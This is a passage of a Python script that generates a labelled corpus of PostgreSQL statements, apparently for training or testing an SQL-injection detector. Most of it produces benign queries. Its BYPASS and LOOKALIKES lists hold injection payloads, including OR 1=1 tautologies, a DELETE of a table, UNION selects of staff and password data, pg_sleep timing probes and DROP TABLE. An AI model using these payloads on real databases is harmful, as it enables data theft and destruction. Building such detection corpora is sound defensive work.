            "INSERT INTO weigh_ins (tortoise_id, weighed_on, grams) VALUES %s RETURNING id" % ", ".join("(%d, '%s', %d)" % (r.randint(1, 300), rdate(r), r.randint(200, 40000)) for _ in range(k))])

    @add("cx19_maintenance", "complex_maintenance_admin")
    def _(r):
        t = r.choice(["hover_crossings", "flight_bookings", "dials", "repair_tickets", "jump_sessions", "lace_patterns", "item", "league_scores", "weigh_ins", "plays", "sweep_jobs", "boreholes"])
        return r.choice(["ANALYZE %s; VACUUM %s" % (t, t), "VACUUM (FREEZE, VERBOSE) %s" % t, "VACUUM (INDEX_CLEANUP off, TRUNCATE false) %s" % t, "REINDEX TABLE %s" % t,
                         "ALTER TABLE %s SET (fillfactor = %d); VACUUM FULL %s" % (t, r.randint(70, 95), t), "SELECT pg_relation_size('%s'), pg_indexes_size('%s')" % (t, t),
                         "SELECT relname, last_autovacuum, last_autoanalyze FROM pg_stat_user_tables WHERE relname = '%s'" % t, "ANALYZE VERBOSE %s" % t,
                         "SELECT pg_stat_reset_single_table_counters('%s'::regclass)" % t, "ALTER TABLE %s ALTER COLUMN id SET STATISTICS %d" % (t, r.choice([200, 500, 1000]))])

    @add("cx19_transactions", "complex_transactions")
    def _(r):
        n = r.randint(1, 9999)
        return r.choice([
            "SET LOCAL statement_timeout = '%ds'; SELECT crossing_id FROM hover_crossings WHERE departs_at > now() ORDER BY departs_at LIMIT 10" % r.randint(1, 30),
            "SELECT set_config('app.tenant', $1, true); SELECT * FROM jump_sessions WHERE starts_at::date = current_date",
            "BEGIN; SAVEPOINT s%d; UPDATE item SET qty = qty - 1 WHERE sku = 'AF-2L-RED'; RELEASE SAVEPOINT s%d; COMMIT" % (n, n),
            "BEGIN; LOCK TABLE parts_stock IN SHARE ROW EXCLUSIVE MODE; UPDATE parts_stock SET qty = qty + %d WHERE part_no = 'REED-WAX'; COMMIT" % r.randint(1, 50),
            "BEGIN; SELECT pg_advisory_xact_lock(%d); DELETE FROM sweep_reminders WHERE job_id = %d; COMMIT" % (n, n),
            "BEGIN; DECLARE c%d CURSOR FOR SELECT record_id FROM jukebox_records ORDER BY record_id; FETCH 100 FROM c%d; CLOSE c%d; COMMIT" % (n, n, n),
            "SET search_path TO park_leeds, public; SELECT count(*) FROM members; RESET search_path",
            "BEGIN ISOLATION LEVEL SERIALIZABLE; UPDATE courts SET capacity = capacity - 1 WHERE court_id = %d; COMMIT" % r.randint(1, 12)])

    @add("cx19_copy", "complex_copy_stdin")
    def _(r):
        return r.choice([
            "COPY league_scores (bowler_id, week, game_no, score) FROM STDIN WITH (FORMAT csv, HEADER match)",
            "COPY pump_tests (bore_id, started_at, drawdown_m, rate_lpm) FROM STDIN (FORMAT csv, NULL 'NA', DELIMITER ',')",
            "COPY (SELECT * FROM sweep_jobs WHERE job_date >= current_date - %d) TO STDOUT WITH (FORMAT csv, HEADER, FORCE_QUOTE (address))" % r.randint(1, 90),
            "CREATE TEMP TABLE item_stage (LIKE item INCLUDING DEFAULTS); COPY item_stage FROM STDIN WITH (FORMAT csv); INSERT INTO item SELECT * FROM item_stage ON CONFLICT (sku) DO UPDATE SET qty = EXCLUDED.qty; DROP TABLE item_stage",
            "COPY jukebox_records FROM STDIN WITH (FORMAT text, NULL '\\N', ENCODING 'LATIN1')",
            "COPY (SELECT player_id, name FROM panel WHERE season = %d) TO STDOUT (FORMAT csv, DELIMITER '|')" % r.randint(2018, 2026)])

    @add("cx19_ddl", "complex_ddl_migration")
    def _(r):
        n = r.randint(1, 99)
        return r.choice([
            "CREATE TABLE lane_bookings_%d (lane_no int NOT NULL, during tsrange NOT NULL, EXCLUDE USING gist (lane_no WITH =, during WITH &&))" % n,
            "CREATE TABLE kiln_firings_%d (id int GENERATED BY DEFAULT AS IDENTITY PRIMARY KEY, kiln_id int NOT NULL, peak_c smallint CHECK (peak_c BETWEEN 0 AND 1400))" % n,
            "CREATE INDEX CONCURRENTLY IF NOT EXISTS ix_sweep_jobs_pc_%d ON sweep_jobs (postcode text_pattern_ops) INCLUDE (job_date)" % n,
            "CREATE UNLOGGED TABLE crossing_cache_%d (route_code text PRIMARY KEY, payload jsonb) WITH (fillfactor = 80)" % n,
            "ALTER TABLE tortoises ADD CONSTRAINT tortoises_weight_%d CHECK (weight_kg > 0) NOT VALID" % n,
            "CREATE VIEW cert_expiry_%d WITH (security_barrier) AS SELECT job_id, certificate_no FROM sweep_jobs WHERE smoke_test = 'pass'" % n])

    @add("cx19_introspection", "complex_orm_introspection")
    def _(r):
        return r.choice([
            "SELECT c.column_name, c.data_type, c.is_nullable FROM information_schema.columns c WHERE c.table_schema = 'public' AND c.table_name = '%s' ORDER BY c.ordinal_position" % r.choice(["dials", "lanes", "item", "tortoises", "boreholes"]),
            "SELECT i.relname, ix.indisunique FROM pg_index ix JOIN pg_class i ON i.oid = ix.indexrelid WHERE ix.indrelid = '%s'::regclass" % r.choice(["sweep_jobs", "plays", "members"]),
            "SELECT pubname, puballtables FROM pg_publication WHERE pubname LIKE '%s%%'" % r.choice(["drill", "region"]),
            "SELECT tgname, tgenabled FROM pg_trigger WHERE tgrelid = '%s'::regclass AND NOT tgisinternal" % r.choice(["weigh_ins", "orders", "league_scores"])])

    @add("cx19_parameterized", "complex_parameterized")
    def _(r):
        return r.choice(["PREPARE bores_q%d (text) AS SELECT bore_id FROM boreholes WHERE aquifer = $1" % r.randint(1, 99),
                         "PREPARE p%d AS SELECT record_id FROM jukebox_records WHERE rpm = $1; EXECUTE p%d(%d)" % ((r.randint(1, 99),) * 2 + (r.choice([45, 78]),)),
                         "DEALLOCATE bores_q%d" % r.randint(1, 99)])

    @add("cx19_plpgsql", "complex_plpgsql_body")
    def _(r):
        n = r.randint(1, 99)
        return r.choice([
            "CREATE OR REPLACE FUNCTION glass.piece_price_with_tax(p glass.pieces, country text DEFAULT 'GB') RETURNS numeric LANGUAGE sql STABLE AS $f$ SELECT p.price * (1 + CASE country WHEN 'IE' THEN 0.23 ELSE 0.2%d END) $f$" % (n % 10),
            "CREATE OR REPLACE FUNCTION trg_weigh_in_%d() RETURNS trigger LANGUAGE plpgsql AS $t$ BEGIN IF NEW.grams <= 0 THEN RAISE EXCEPTION 'weight must be positive for %%', NEW.tortoise_id; END IF; RETURN NEW; END $t$" % n,
            "DO $d$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'driller') THEN CREATE ROLE driller LOGIN; END IF; END $d$",
            "CREATE PROCEDURE close_stale_tickets_%d(days int) LANGUAGE plpgsql AS $p$ BEGIN UPDATE repair_tickets SET status = 'closed' WHERE opened_on < current_date - days; COMMIT; END $p$" % n])

    @add("cx19_search", "complex_search_complex")
    def _(r):
        return r.choice([
            "SELECT title, ts_rank(tsv, q) AS rank FROM lace_patterns, plainto_tsquery('english', $1) q WHERE tsv @@ q ORDER BY rank DESC LIMIT %d" % r.choice([10, 25]),
            "SELECT sku, name FROM item WHERE name ILIKE '%%' || $1 || '%%' OR sku = upper($1) ORDER BY name LIMIT %d" % r.choice([10, 30])])
    return G


# ---------------------------------------------------------------- regression-test-style statements (written for this file)
REGRESS_FIXED = [
    ("publication", "CREATE PUBLICATION testpub19 FOR TABLE testpub_tbl19 WITH (publish = 'insert, update')"), ("publication", "ALTER PUBLICATION testpub19 SET (publish_via_partition_root = true)"),
    ("publication", "CREATE PUBLICATION testpub19_ins FOR TABLE testpub_tbl19 (a, b) WHERE (a > 10)"), ("publication", "ALTER PUBLICATION testpub19 ADD TABLES IN SCHEMA pub_test19"),
    ("publication", "ALTER PUBLICATION testpub19 OWNER TO regress_publication_user19"), ("publication", "DROP PUBLICATION IF EXISTS testpub19, testpub19_ins"),
    ("subscription", "CREATE SUBSCRIPTION regress_sub19 CONNECTION 'dbname=regress_doesnotexist' PUBLICATION testpub19 WITH (connect = false, slot_name = NONE, enabled = false)"),
    ("subscription", "ALTER SUBSCRIPTION regress_sub19 SET (synchronous_commit = local)"), ("subscription", "ALTER SUBSCRIPTION regress_sub19 DISABLE"),
    ("subscription", "ALTER SUBSCRIPTION regress_sub19 SKIP (lsn = NONE)"), ("subscription", "DROP SUBSCRIPTION IF EXISTS regress_sub19"),
    ("event_trigger", "CREATE EVENT TRIGGER regress_event_trigger19 ON ddl_command_start WHEN TAG IN ('CREATE TABLE', 'DROP TABLE') EXECUTE FUNCTION test_event_trigger19()"),
    ("event_trigger", "ALTER EVENT TRIGGER regress_event_trigger19 DISABLE"), ("event_trigger", "ALTER EVENT TRIGGER regress_event_trigger19 ENABLE ALWAYS"),
    ("event_trigger", "CREATE FUNCTION test_event_trigger19() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'test_event_trigger: % %', tg_event, tg_tag; END $$"),
    ("foreign_data", "CREATE FOREIGN DATA WRAPPER foo19 VALIDATOR postgresql_fdw_validator"), ("foreign_data", "CREATE SERVER s19 FOREIGN DATA WRAPPER foo19 OPTIONS (host 'a', dbname 'b')"),
    ("foreign_data", "ALTER SERVER s19 VERSION '1.1' OPTIONS (SET host 'b')"), ("foreign_data", "CREATE USER MAPPING FOR current_user SERVER s19 OPTIONS (user 'regress')"),
    ("foreign_data", "CREATE FOREIGN TABLE ft19 (c1 integer OPTIONS (param1 'val1') NOT NULL, c2 text) SERVER s19 OPTIONS (delimiter ',')"),
    ("foreign_data", "DROP USER MAPPING IF EXISTS FOR PUBLIC SERVER s19"),
    ("collate", "SELECT 'a' < 'B' COLLATE \"C\", 'a' < 'B' COLLATE \"POSIX\""), ("collate", "CREATE COLLATION mycoll19 FROM \"C\""), ("collate", "SELECT upper('ß' COLLATE \"C\")"),
    ("vacuum", "VACUUM (SKIP_LOCKED, PROCESS_TOAST false) vaccluster19"), ("vacuum", "VACUUM (DISABLE_PAGE_SKIPPING) vactst19"), ("vacuum", "ANALYZE vactst19 (i)"),
    ("vacuum", "VACUUM (PARALLEL 2, INDEX_CLEANUP ON) pvactst19"),
    ("privileges", "GRANT SELECT (a, b) ON atest19 TO regress_priv_user19"), ("privileges", "REVOKE UPDATE ON atest19 FROM PUBLIC"),
    ("privileges", "ALTER DEFAULT PRIVILEGES FOR ROLE regress_priv_user19 REVOKE EXECUTE ON FUNCTIONS FROM PUBLIC"),
    ("privileges", "SELECT has_column_privilege('atest19', 'a', 'SELECT')"), ("privileges", "GRANT pg_read_all_stats TO regress_priv_user19 WITH ADMIN OPTION"),
    ("create_aggregate", "CREATE AGGREGATE newavg19 (sfunc = int4_avg_accum, basetype = int4, stype = _int8, finalfunc = int8_avg, initcond1 = '{0,0}')"),
    ("create_aggregate", "CREATE AGGREGATE sum3_19 (int8, int8, int8) (stype = int8, sfunc = sum3)"),
    ("create_operator", "CREATE OPERATOR ## (leftarg = path, rightarg = path, function = path_inter, commutator = ##)"),
    ("create_operator", "CREATE OPERATOR === (leftarg = boolean, rightarg = boolean, procedure = booleq, negator = !==)"),
    ("create_cast", "CREATE CAST (int4 AS casttesttype19) WITH INOUT"), ("create_cast", "DROP CAST IF EXISTS (int4 AS casttesttype19)"),
    ("inherit", "CREATE TABLE c19 (c text) INHERITS (a19)"), ("inherit", "SELECT relname, c19.* FROM ONLY a19 c19, pg_class WHERE c19.tableoid = pg_class.oid"),
    ("inherit", "ALTER TABLE a19 ADD COLUMN z int NOT NULL DEFAULT 0"), ("inherit", "ALTER TABLE c19 NO INHERIT a19"),
    ("tablesample", "SELECT t.id FROM test_tablesample19 AS t TABLESAMPLE SYSTEM (50) REPEATABLE (0)"), ("tablesample", "SELECT count(*) FROM test_tablesample19 TABLESAMPLE BERNOULLI (100)"),
    ("lock", "LOCK TABLE lock_tbl19 IN ROW EXCLUSIVE MODE NOWAIT"), ("lock", "LOCK lock_tbl19, lock_tbl19b IN SHARE UPDATE EXCLUSIVE MODE"),
    ("prepared_xacts", "PREPARE TRANSACTION 'regress_foo19'"), ("prepared_xacts", "COMMIT PREPARED 'regress_foo19'"), ("prepared_xacts", "SELECT gid FROM pg_prepared_xacts ORDER BY gid"),
    ("transactions", "BEGIN TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY, DEFERRABLE"), ("transactions", "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'"),
    ("transactions", "SAVEPOINT one; RELEASE SAVEPOINT one; ROLLBACK AND NO CHAIN"), ("transactions", "COMMIT AND CHAIN"),
    ("returning", "UPDATE foo19 SET f2 = lower(f2), f3 = DEFAULT RETURNING foo19.*, f1 + f3 AS sum13"),
    ("returning", "DELETE FROM foo19 WHERE f1 > 2 RETURNING f3, f2, f1, least(f1, f3)"),
    ("insert_conflict", "INSERT INTO insertconflicttest19 VALUES (1, 'Apple') ON CONFLICT (key) DO UPDATE SET fruit = excluded.fruit WHERE insertconflicttest19.fruit <> 'Lime'"),
    ("insert_conflict", "INSERT INTO insertconflicttest19 AS ict VALUES (6, 'Passionfruit') ON CONFLICT (lower(fruit)) DO UPDATE SET fruit = 'Pear' RETURNING *"),
    ("insert_conflict", "INSERT INTO insertconflicttest19 VALUES (3, 'Kiwi') ON CONFLICT ON CONSTRAINT ict19_pkey DO NOTHING"),
    ("namespace", "CREATE SCHEMA test_ns_schema_19 CREATE TABLE abc (a serial, b int UNIQUE) CREATE VIEW abc_view AS SELECT a + 1 AS a, b + 1 AS b FROM abc"),
    ("namespace", "ALTER SCHEMA test_ns_schema_19 RENAME TO test_ns_schema_renamed19"),
    ("create_view", "CREATE OR REPLACE TEMP VIEW v19 AS SELECT a, b FROM base19 WHERE a < 10"), ("create_view", "ALTER VIEW v19 ALTER COLUMN b SET DEFAULT 0"),
    ("reloptions", "CREATE TABLE reloptions_test19 (i int) WITH (fillfactor = 30, autovacuum_enabled = false, autovacuum_analyze_scale_factor = 0.2)"),
    ("reloptions", "ALTER TABLE reloptions_test19 RESET (autovacuum_enabled)"), ("reloptions", "ALTER INDEX reloptions_test19_idx SET (fillfactor = 40)"),
    ("temp", "CREATE TEMP TABLE temptest19 (col int) ON COMMIT DELETE ROWS"), ("temp", "CREATE TEMP TABLE temptest19b (col int) ON COMMIT DROP"),
    ("polymorphism", "CREATE FUNCTION polyf19(x anyelement) RETURNS anyarray AS 'SELECT array[x, x]' LANGUAGE sql"),
    ("polymorphism", "SELECT polyf19(42), polyf19('foo'::text)"), ("polymorphism", "CREATE FUNCTION polyf19c(a anycompatible, b anycompatible) RETURNS anycompatible AS 'SELECT greatest(a, b)' LANGUAGE sql"),
    ("rowtypes", "SELECT ROW(1, 2) < ROW(1, 3) AS true_1, ROW(1, 2) IS DISTINCT FROM ROW(1, NULL)"), ("rowtypes", "SELECT (quad19).c1.r FROM quadtable19"),
    ("create_function_sql", "CREATE FUNCTION functest_s19(a int, b int) RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT a + b; END"),
    ("create_function_sql", "CREATE FUNCTION functest_v19() RETURNS int LANGUAGE sql IMMUTABLE PARALLEL SAFE LEAKPROOF RETURN 42"),
    ("create_function_sql", "ALTER FUNCTION functest_v19() COST 10 ROWS 1"),
    ("misc_functions", "SELECT num_nonnulls(1, NULL, 2), num_nulls(NULL::text)"), ("misc_functions", "SELECT pg_column_size(ROW(1, 'abc'::text))"),
    ("misc_functions", "SELECT pg_typeof(1.5), pg_typeof(ARRAY[1])"),
    ("dbsize", "SELECT size, pg_size_pretty(size), pg_size_bytes(pg_size_pretty(size)) FROM (VALUES (10::bigint), (1000000)) x(size)"),
    ("dbsize", "SELECT pg_size_bytes('1.5 GB'), pg_size_bytes('-2kB')"),
]


def regress_rows(r):
    out, add = regress_list("regress19", REGRESS_FIXED)
    for _ in range(30):
        a, b = r.randint(-99999, 99999), r.randint(1, 97)
        add("numeric", r.choice(["SELECT %d::numeric / %d" % (a, b), "SELECT sqrt(%d::numeric)" % abs(a), "SELECT %d.%d::numeric(12,3)" % (a, b), "SELECT power(%d::numeric, %d)" % (b, b % 5),
                                 "SELECT ln(%d::numeric)" % (abs(a) + 1), "SELECT trunc(%d.%04d, 2)" % (a, b), "SELECT numeric 'NaN' > %d" % a, "SELECT %d::numeric %% %d" % (a, b),
                                 "SELECT to_char(%d::numeric, '999G999G999D99S')" % a, "SELECT lcm(%d::numeric, %d)" % (b, b + 1)]))
    for _ in range(25):
        a, b = r.randint(-2 ** 40, 2 ** 40), r.randint(1, 63)
        add("int8", r.choice(["SELECT %d::int8 * 2" % a, "SELECT %d::int8 >> %d" % (a, b % 16), "SELECT int8 '%d' / %d" % (a, b), "SELECT abs(%d::int8)" % a,
                              "SELECT %d::int8 & 255" % a, "SELECT to_hex(%d::int8)" % abs(a), "SELECT %d::int8 = %d::int4" % (b, b)]))
    for _ in range(30):
        a, b, c = r.randint(0, 255), r.randint(0, 255), r.randint(8, 32)
        add("inet", r.choice(["SELECT inet '10.%d.%d.1/%d'" % (a, b, c), "SELECT network(inet '192.168.%d.%d/24')" % (a, b), "SELECT broadcast(cidr '10.%d.0.0/16')" % a,
                              "SELECT inet '10.%d.0.1' - inet '10.0.0.1'" % a, "SELECT abbrev(cidr '10.%d.0.0/%d')" % (a, c - c % 8 if c % 8 == 0 else 16),
                              "SELECT inet '2001:db8::%x' << inet '2001:db8::/32'" % a, "SELECT family(inet '::%x'), family(inet '10.0.0.%d')" % (a, b),
                              "SELECT inet_merge(inet '192.168.%d.1/24', inet '192.168.%d.1/24')" % (a, b), "SELECT ~ inet '10.%d.%d.1'" % (a, b),
                              "SELECT macaddr '08:00:2b:%02x:%02x:04' < macaddr '08:00:2b:ff:ff:ff'" % (a, b)]))
    for _ in range(30):
        a, b = sorted(r.sample(range(-50, 200), 2))
        add("rangetypes", r.choice(["SELECT int4range(%d, %d) && int4range(%d, %d)" % (a, b, b - 1, b + 5), "SELECT numrange(%d.5, %d.5, '(]')" % (a, b),
                                    "SELECT int8range(%d, %d) -|- int8range(%d, %d)" % (a, b, b, b + 3), "SELECT upper_inc(int4range(%d, %d, '[]'))" % (a, b),
                                    "SELECT range_merge(int4range(%d, %d), int4range(%d, %d))" % (a, a + 1, b, b + 1), "SELECT isempty(int4range(%d, %d))" % (a, a),
                                    "SELECT daterange('2000-01-%02d', '2000-02-%02d') * daterange('2000-01-15', NULL)" % (abs(a) % 28 + 1, abs(b) % 28 + 1),
                                    "SELECT '{[%d,%d), [%d,%d)}'::int4multirange" % (a, a + 2, b, b + 4), "SELECT multirange(int4range(%d, %d)) @> %d" % (a, b, (a + b) // 2),
                                    "SELECT int4range(%d, %d) << int4range(%d, %d)" % (a, a + 1, b + 1, b + 2)]))
    for _ in range(30):
        a, b, c = r.randint(1, 99), r.randint(1, 99), r.randint(1, 9)
        add("arrays", r.choice(["SELECT (ARRAY[%d, %d, %d])[%d]" % (a, b, c, c % 3 + 1), "SELECT array_append(ARRAY[%d], %d)" % (a, b), "SELECT array_remove(ARRAY[%d, %d, %d], %d)" % (a, b, a, a),
                                "SELECT array_dims('{{%d,%d},{%d,%d}}'::int[])" % (a, b, c, a), "SELECT ARRAY[%d, %d] @> ARRAY[%d]" % (a, b, a), "SELECT array_fill(%d, ARRAY[%d])" % (a, c),
                                "SELECT (ARRAY[%d, %d, %d])[2:3]" % (a, b, c), "SELECT array_position(ARRAY['a', 'b', 'c'], '%s')" % r.choice("abcd"),
                                "SELECT trim_array(ARRAY[%d, %d, %d], 1)" % (a, b, c), "SELECT cardinality('{{%d},{%d}}'::int[])" % (a, b), "SELECT %d = ALL (ARRAY[%d, %d])" % (a, a, b)]))
    for _ in range(30):
        w = rword(r, r.randint(2, 9))
        a = r.randint(1, 12)
        add("strings", r.choice(["SELECT substr('%s', %d, %d)" % (w, a % 4 + 1, a), "SELECT '%s' SIMILAR TO '%%(%s|z)%%'" % (w, w[:2]), "SELECT strpos('%s', '%s')" % (w, w[-1]),
                                 "SELECT replace('%s', '%s', 'X')" % (w, w[0]), "SELECT unistr('\\0041%s')" % w, "SELECT normalize('%s', NFC)" % w, "SELECT '%s' ^@ '%s'" % (w, w[0]),
                                 "SELECT overlay('%s' PLACING 'xx' FROM %d FOR 1)" % (w, a % len(w) + 1), "SELECT chr(%d) || ascii('%s')" % (a + 64, w[0]),
                                 "SELECT E'%s\\\\n' LIKE '%s%%'" % (w, w), "SELECT repeat('%s', %d)" % (w, a % 4), "SELECT 'abc%s' ~* '^ABC'" % w]))
    for _ in range(30):
        d = rdate(r, 1990, 2030)
        a = r.randint(1, 400)
        add("date", r.choice(["SELECT date '%s' - interval '%d days'" % (d, a), "SELECT date_part('week', date '%s')" % d, "SELECT date '%s' > 'today'::date" % d,
                              "SELECT to_date('%s', 'YYYY-MM-DD')" % d, "SELECT extract(century FROM date '%s')" % d, "SELECT date_bin('1 week', timestamp '%s 10:00', timestamp '2001-01-01')" % d,
                              "SELECT timestamp '%s 23:59:59.999' + interval '1 ms'" % d, "SELECT '%s'::timestamptz AT TIME ZONE 'Europe/Dublin'" % d,
                              "SELECT make_timestamp(%s, 8, 30, 0)" % d.replace("-0", "-").replace("-", ", "), "SELECT age(timestamp '%s', timestamp '1990-01-01')" % d]))
    for _ in range(30):
        a, b = r.randint(1, 50), r.randint(1, 50)
        add("jsonb_jsonpath", r.choice(["SELECT jsonb '{\"a\": %d}' @? '$.a ? (@ > %d)'" % (a, b), "SELECT jsonb_path_query('[%d, %d]', '$[*] ? (@ >= $min)', '{\"min\": %d}')" % (a, b, min(a, b)),
                                        "SELECT jsonb_path_query('{\"a\": [%d, %d]}', 'lax $.a[last]')" % (a, b), "SELECT jsonb_path_match('%d', '$ > %d')" % (a, b),
                                        "SELECT jsonb_path_query('\"%d\"', '$.double()')" % a, "SELECT jsonb_path_query_array('[%d, %d, 3]', '$[0 to 1]')" % (a, b),
                                        "SELECT jsonb_path_exists('{\"s\": \"abc\"}', '$.s ? (@ like_regex \"^a\" flag \"i\")')", "SELECT jsonb_path_query('%d', '$.type()')" % a,
                                        "SELECT jsonb '[%d, %d]' @@ '$[*] == %d'" % (a, b, a), "SELECT jsonb_path_query('{\"a\": {\"b\": %d}}', 'strict $.a.b')" % a]))
    for _ in range(20):
        a = r.randint(1, 99)
        add("boolean", r.choice(["SELECT bool 't' AND bool 'f' = false", "SELECT '%s'::bool" % r.choice(["yes", "no", "on", "off", "1", "0", "t", "f"]),
                                 "SELECT %d > 50 IS TRUE" % a, "SELECT booland_statefunc(true, %s)" % r.choice(["true", "false"]), "SELECT bool_or(i > %d) FROM generate_series(1, 10) i" % (a % 12),
                                 "SELECT NOT (%d = %d) IS NOT FALSE" % (a, a)]))
    for _ in range(25):
        a, b = r.randint(1, 9), r.randint(1, 20)
        add("window", r.choice(["SELECT four, ten, sum(ten) OVER (PARTITION BY four ORDER BY ten ROWS BETWEEN %d PRECEDING AND %d FOLLOWING) FROM tenk1 WHERE unique2 < %d" % (a, a, b * 10),
                                "SELECT nth_value(ten, %d) OVER (ORDER BY ten RANGE BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) FROM tenk1 WHERE unique2 < %d" % (a, b),
                                "SELECT cume_dist() OVER (ORDER BY four), four FROM tenk1 WHERE unique2 < %d" % b,
                                "SELECT lead(ten, %d, 0) OVER (PARTITION BY four ORDER BY ten) FROM tenk1 WHERE unique2 < %d" % (a, b * 2),
                                "SELECT count(*) OVER (ORDER BY ten GROUPS BETWEEN CURRENT ROW AND %d FOLLOWING EXCLUDE CURRENT ROW) FROM tenk1 WHERE unique2 < %d" % (a, b),
                                "SELECT row_number() OVER w, ten FROM tenk1 WHERE unique2 < %d WINDOW w AS (ORDER BY ten DESC)" % b]))
    for _ in range(15):
        w = rword(r, r.randint(1, 8))
        add("char", r.choice(["SELECT '%s'::char(%d)" % (w, r.randint(1, 10)), "SELECT char_length('%s'::varchar(20))" % w, "SELECT '%s'::name = '%s'" % (w, w),
                              "SELECT octet_length('%s'::bpchar)" % w, "SELECT '%s'::\"char\"" % w[0]]))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "plpgsql_do_exec", "dollar_quote", "e_escape", "sqlmap", "sqlmap"]
KIND_FAMILY = {"date": "input_formatted", "ts": "input_formatted", "interval": "input_formatted", "duration": "input_formatted", "jpath": "input_formatted",
               "jkey": "input_plain", "email": "input_url_email", "json": "input_json_text", "cron": "input_formatted", "jobsql": "input_sql_words"}
TRUNC_STYLES = [("dashdash_tab", "--\t"), ("dashdash_bang", "--!"), ("dashdash_equals", "--="), ("dashdash_tilde", "--~"), ("dashdash_pipe", "--|"),
                ("dashdash_dollar", "--$"), ("dashdash_percent", "--%"), ("dashdash_nbsp", "--\u00a0"), ("dashdash_em_space", "--\u2003"),
                ("dashdash_semicolon_dashdash", "--;--"), ("empty_block_then_dashdash", "/**/--"), ("semicolon_block_open", ";/*"),
                ("block_open_text", "/* x"), ("block_open_star", "/**"), ("dashdash_unicode_word", "-- ñ"), ("dashdash_twice", "-- -- "),
                ("dashdash_lower_word", None)]
BYPASS = [("addslashes_into_standard_string", "t19_caqti_records", "a", "Patsy Cline' OR 1=1 -- ", addslashes),
          ("doubling_into_e_string", "t19_ectoq_vet_note", "c", "\\', now()); DELETE FROM vet_notes; -- ", double_quotes),
          ("backslash_quote_into_standard_string", "t19_mikroorm_member_like", "a", "x' UNION SELECT * FROM park_staff -- ", backslash_quotes),
          ("addslashes_into_standard_string", "t19_shellpsql_certify", "a", "C-1', smoke_test = 'pass' -- ", addslashes),
          ("backslash_quote_into_standard_string", "t19_rom_orders", "a", "x') OR pg_sleep(5) IS NULL -- ", backslash_quotes),
          ("doubling_into_e_string", "t19_ectoq_vet_note", "c", "\\' || (SELECT string_agg(pw, ',') FROM jukebox_admins), now()) -- ", double_quotes)]
# attack-looking strings PostgreSQL does not read as quotes or escapes where they land: primes, saltillo and other
# apostrophe look-alikes, backticks, and %27 / &#39; / \\u0027 spelled as text (no decoding, no E'' prefix) -- they stay data
LOOKALIKES = [("x′ OR ′1′=′1", "lookalike:prime"), ("admin ʹ OR ʹaʹ=ʹa", "lookalike:modifier_prime"), ("ꞌ; DROP TABLE lanes; --", "lookalike:saltillo"),
              ("`) OR (1=1 --", "lookalike:backtick"), ("%27 OR 1=1 --", "lookalike:url_encoded_quote"), ("&#39; UNION SELECT passwd FROM pg_shadow --", "lookalike:html_entity_quote"),
              ("\\u0027; SELECT pg_sleep(9); --", "lookalike:unicode_escape_text"), ("＂ OR ＂＂=＂", "lookalike:fullwidth_double_quote")]


def truncation_style(r):
    style, c = r.choice(TRUNC_STYLES)
    return style, c if c is not None else "--" + rword(r, r.randint(2, 6))


TRUNCATION = {"style": truncation_style, "origs": ["root", "", "x", "1"], "spaces": ["", " ", "\t", "\n", "  "]}


def numeric_value(r):
    return r.choice([str(r.randint(0, 9999)), str(r.randint(1, 60)), "%d.%d" % (r.randint(0, 500), r.randint(0, 99)), str(r.randint(10 ** 4, 10 ** 7)),
                     "0", "-%d" % r.randint(1, 40), "%d.5" % r.randint(1, 80), "%de%d" % (r.randint(1, 9), r.randint(1, 3)), "0.%03d" % r.randint(1, 999)])


def numeric_refused(tpl, slot, val):
    """No sign, fraction, exponent or long number where only a small count, an offset or an id goes."""
    si = slot_info(tpl, slot)
    strict = si["in_limit"] or si["subscript"] or si["frame"] or si["lead"] in ("FETCH", "EXECUTE") or tpl[0] in (
        "t19_gormexpr_booking_upsert", "t19_kysely_capacity", "t19_hanami_score_fix", "t19_terraform_role", "t19_panache_recast_lock")
    return strict and (val.startswith("-") or "." in val or "e" in val or len(val) > 7)


def formatted_value(r):
    return r.choice(["HOV-%04d" % r.randint(1, 9999), "LANE %d/%s" % (r.randint(1, 32), r.choice("AB")), "%d.%d kg" % (r.randint(0, 60), r.randint(0, 9)),
                     "%d rpm" % r.choice([33, 45, 78]), "T-%02d:%02d" % (r.randint(0, 23), r.randint(0, 59)), "Grade %s" % r.choice(["I", "II*", "II"]),
                     "%d°%02d′%s" % (r.randint(0, 89), r.randint(0, 59), r.choice("NSEW")), "BORE-%s-%d" % (rword(r, 2, upper=True), r.randint(1, 999))])


def input_value(r, fam, groups):
    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
    if kinds and r.random() < 0.45:
        return typed_input(r, kinds, fam, typed_value)
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ",", " , "], 90000, 5, numeric_value, numeric_refused)
    if fam == "input_identifier":
        return identifier_input(r, groups.identifier, CANON)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.3, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG, runs_into=True))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    corpus.payloads += LOOKALIKES * 15
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "f19-%06d", "nineteenth")


if __name__ == "__main__":
    main()
